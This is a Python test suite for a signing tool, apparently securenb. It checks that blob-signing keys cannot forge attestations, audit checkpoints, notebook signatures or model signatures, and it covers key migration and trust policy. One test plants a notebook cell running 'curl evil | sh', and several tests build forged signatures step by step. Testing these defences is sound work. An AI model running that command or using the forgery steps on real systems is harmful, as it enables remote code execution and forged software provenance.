"""Key separation by purpose: a signature made for one purpose never stands for another.

The attack (issue 11.1): `cosign sign-blob` signs bytes the caller chooses. If the
key that signs blobs also signs records or releases, a blob crafted to be a DSSE
pre-authentication encoding, or a checkpoint body, becomes a valid attestation,
notebook signature, model signature or audit checkpoint.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
from pathlib import Path

import model_signing
import pytest
from click.testing import CliRunner

from securenb.cli.main import cli
from securenb.core.attest import IN_TOTO_PAYLOAD_TYPE, make_statement, pae, verify_envelope
from securenb.core.attest.statement import Subject
from securenb.core.audit.note import (
    Checkpoint,
    NoteSignature,
    SignedNote,
    note_key_hash,
    open_checkpoint,
)
from securenb.core.canonical import canonical_json
from securenb.core.keys import PrivateKey, PublicKey
from securenb.core.workspace import Workspace
from securenb.errors import AttestationError, AuditError, KeyError_
from securenb.signing import SignRequest, sign, sign_blob, verify
from securenb.signing.model_sign import KeySigner, sign_model
from securenb.signing.notebook import statement_for, unsigned


def blob_signature(ws: Workspace, message: bytes) -> tuple[bytes, PublicKey]:
    """What an attacker gets from `securenb cosign sign-blob` over ``message``."""
    blob = ws.root / "innocent.bin"
    blob.write_bytes(message)
    signed = sign_blob(ws, blob)
    key_id = signed.signer.key_id
    public = next(ws.keystore.public(k.name) for k in ws.keystore.list() if k.key_id == key_id)
    return base64.b64decode(Path(signed.signature).read_bytes()), public


def test_sign_blob_cannot_forge_an_attestation(workspace: Workspace) -> None:
    statement = make_statement([Subject("model.bin", "ab" * 32)],
                               "https://securenb.dev/attestation/signature/v1", {"forged": True})
    payload = canonical_json(statement)
    sig, public = blob_signature(workspace, pae(IN_TOTO_PAYLOAD_TYPE, payload))
    envelope = {"payloadType": IN_TOTO_PAYLOAD_TYPE, "payload": base64.b64encode(payload).decode(),
                "signatures": [{"keyid": public.key_id, "sig": base64.b64encode(sig).decode()}]}
    with pytest.raises(AttestationError):
        verify_envelope(envelope, [workspace.public_key()])


def test_sign_blob_cannot_forge_an_audit_checkpoint(workspace: Workspace) -> None:
    body = Checkpoint(workspace.origin, 1, b"\x00" * 32).text()
    sig, public = blob_signature(workspace, body.encode())
    note = SignedNote(body, (NoteSignature(workspace.origin,
                                           note_key_hash(workspace.origin, public), sig),))
    with pytest.raises(AuditError):
        open_checkpoint(note, workspace.public_key())


def test_sign_blob_cannot_forge_a_notebook_signature(workspace: Workspace) -> None:
    path = workspace.root / "nb.ipynb"
    path.write_text(json.dumps({"cells": [{"cell_type": "code", "source": "print(1)",
                                           "metadata": {}, "outputs": [],
                                           "execution_count": None}],
                                "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    sign(workspace, SignRequest(str(path)))
    nb = json.loads(path.read_text())
    nb["cells"][0]["source"] = "import os; os.system('curl evil | sh')"
    statement = statement_for(unsigned(nb), path.name, "source", "2026-01-01T00:00:00Z")
    payload = canonical_json(statement)
    sig, public = blob_signature(workspace, pae(IN_TOTO_PAYLOAD_TYPE, payload))
    nb["metadata"]["securenb"]["signature"] = {
        "payloadType": IN_TOTO_PAYLOAD_TYPE, "payload": base64.b64encode(payload).decode(),
        "signatures": [{"keyid": public.key_id, "sig": base64.b64encode(sig).decode()}]}
    path.write_text(json.dumps(nb))
    result = verify(workspace, path)
    assert not result.verified, result.lines()


def test_sign_blob_cannot_forge_a_model_signature(workspace: Workspace) -> None:
    model = workspace.root / "model.bin"
    model.write_bytes(b"honest weights")
    sign(workspace, SignRequest(str(model)))
    model.write_bytes(b"backdoored weights")
    throwaway = workspace.root / "throwaway.sig"
    sign_model(model, KeySigner(PrivateKey.generate()), signature=throwaway)
    bundle = json.loads(throwaway.read_bytes())
    envelope = bundle["dsseEnvelope"]
    payload = base64.b64decode(envelope["payload"])
    sig, public = blob_signature(workspace, pae(envelope["payloadType"], payload))
    envelope["signatures"] = [{"sig": base64.b64encode(sig).decode()}]
    bundle["verificationMaterial"]["publicKey"]["hint"] = hashlib.sha256(public.pem()).hexdigest()
    (workspace.root / "model.bin.sig").write_text(json.dumps(bundle))
    assert not verify(workspace, model).verified
    release_pub = workspace.keystore.pub_path(workspace.policy.signing.key)
    with pytest.raises(ValueError):  # model-signing's own verifier, with the release key
        model_signing.verifying.Config().use_elliptic_key_verifier(
            public_key=release_pub).verify(model, workspace.root / "model.bin.sig")


def test_each_purpose_has_its_own_key(workspace: Workspace) -> None:
    purposes = {k.name: k.purpose for k in workspace.keystore.list()}
    assert purposes == {"workspace": "record", "release": "release", "blob": "blob"}
    ids = {k.key_id for k in workspace.keystore.list()}
    assert len(ids) == 3


def test_a_key_is_refused_for_another_purpose(workspace: Workspace) -> None:
    model = workspace.root / "model.bin"
    model.write_bytes(b"weights")
    with pytest.raises(KeyError_, match=r"record key.*never signs"):
        sign(workspace, SignRequest(str(model), key="workspace"))
    with pytest.raises(KeyError_, match=r"blob key.*never signs"):
        sign(workspace, SignRequest(str(model), key="blob"))
    with pytest.raises(KeyError_, match=r"release key.*never signs"):
        sign_blob(workspace, model, key_ref="release")
    assert not (workspace.root / "model.bin.sig").exists()


def test_old_workspace_migrates_with_a_clear_message(workspace: Workspace) -> None:
    """A workspace made before key separation: one key that signed everything."""
    keys = workspace.keystore.directory
    for name in ("release", "blob"):
        for suffix in (".key", ".pub", ".json"):
            (keys / f"{name}{suffix}").unlink()
    (keys / "workspace.json").write_text('{"created": "2026-01-01T00:00:00Z"}')
    model = workspace.root / "model.bin"
    model.write_bytes(b"weights")
    old = Workspace(workspace.root)
    with pytest.raises(KeyError_, match="securenb keys migrate"):
        sign(old, SignRequest(str(model)))
    runner = CliRunner()
    result = runner.invoke(cli, ["-C", str(workspace.root), "keys", "migrate"],
                           env={"SECURENB_KEY_PASSPHRASE": os.environ["SECURENB_KEY_PASSPHRASE"]})
    assert result.exit_code == 0, result.output
    assert "release" in result.output and "blob" in result.output
    assert "re-sign" in result.output
    again = runner.invoke(cli, ["-C", str(workspace.root), "keys", "migrate"])
    assert again.exit_code == 0 and "already" in again.output
    migrated = Workspace(workspace.root)
    assert sign(migrated, SignRequest(str(model))).signer.key_id == \
        migrated.keystore.public("release").key_id
    assert verify(migrated, model).verified


def test_policy_cannot_trust_a_key_for_two_purposes(workspace: Workspace) -> None:
    from securenb.errors import PolicyError

    blob = workspace.root / "data.bin"
    blob.write_bytes(b"x")
    sign_blob(workspace, blob)
    pub = workspace.root / "blob.pub"
    pub.write_bytes(workspace.keystore.export_public("blob"))
    policy = f'[trust]\nkeys = ["{pub}"]\nblob_keys = ["{pub}"]\n'
    (workspace.root / "securenb.toml").write_text(policy)
    with pytest.raises(PolicyError, match=r"listed in both trust\.\w+ and trust\.\w+"):
        verify(Workspace(workspace.root), blob)


def test_listing_the_record_key_does_not_make_it_a_release_key(workspace: Workspace) -> None:
    """Even a policy that names the record key in trust.keys never accepts it for a model."""
    pub = workspace.root / "record.pub"
    pub.write_bytes(workspace.keystore.export_public("workspace"))
    (workspace.root / "securenb.toml").write_text(f'[trust]\nkeys = ["{pub}"]\n')
    ws = Workspace(workspace.root)
    model = ws.root / "model.bin"
    model.write_bytes(b"weights")
    sign_model(model, KeySigner(ws.signer()))  # what a forger with the record key's power makes
    result = verify(ws, model)
    assert not result.verified
    assert "the workspace's record key 'workspace'" in result.problems[0], result.problems


def test_a_signature_is_never_written_without_its_record(
        workspace: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 11.6: with a release key of its own (a key file) and the record key locked,
    signing refuses before any .sig is written, not after (no signature without audit)."""
    from cryptography.hazmat.primitives import serialization

    key = PrivateKey.generate()
    pem = workspace.root / "release.pem"
    pem.write_bytes(key.key.private_bytes(serialization.Encoding.PEM,
                                          serialization.PrivateFormat.PKCS8,
                                          serialization.NoEncryption()))
    (workspace.root / "securenb.toml").write_text(f'[signing]\nkey = "file:{pem}"\n')
    monkeypatch.delenv("SECURENB_KEY_PASSPHRASE")
    model = workspace.root / "model.bin"
    model.write_bytes(b"weights")
    ws = Workspace(workspace.root)
    with pytest.raises(KeyError_, match="no passphrase"):
        sign(ws, SignRequest(str(model)))
    assert not (workspace.root / "model.bin.sig").exists()
    assert not ws.store.list_attestations()
